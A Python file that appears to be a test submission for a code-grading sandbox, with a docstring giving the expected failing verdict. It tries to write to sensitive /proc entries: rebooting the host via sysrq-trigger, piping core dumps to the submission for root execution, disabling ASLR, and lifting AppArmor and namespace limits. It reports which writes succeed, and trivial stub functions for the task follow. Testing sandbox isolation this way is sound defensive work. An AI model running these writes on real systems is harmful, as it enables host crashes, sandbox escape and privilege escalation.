"""Changes what it can of itself and of the kernel through /proc.

must: no points
verdict: wrong answer
says: /proc/sysrq-trigger
hides: came through
"""

for name, text in {
    "/proc/sysrq-trigger": "b",
    "/proc/sys/kernel/core_pattern": "|/box/solution.py",
    "/proc/sys/vm/drop_caches": "3",
    "/proc/sys/kernel/randomize_va_space": "0",
    "/proc/1/oom_score_adj": "-1000",
    "/proc/self/uid_map": "0 0 4294967295",
    "/proc/self/setgroups": "allow",
    "/proc/self/attr/current": "unconfined",
    "/proc/self/limits": "Max processes unlimited unlimited",
}.items():
    try:
        with open(name, "w") as file:
            file.write(text)
        print(name, "came through")
    except OSError as error:
        print(name, error.strerror)


def scale(x):
    return x


class Scaler:
    def fit(self, x):
        return self

    def transform(self, x):
        return x
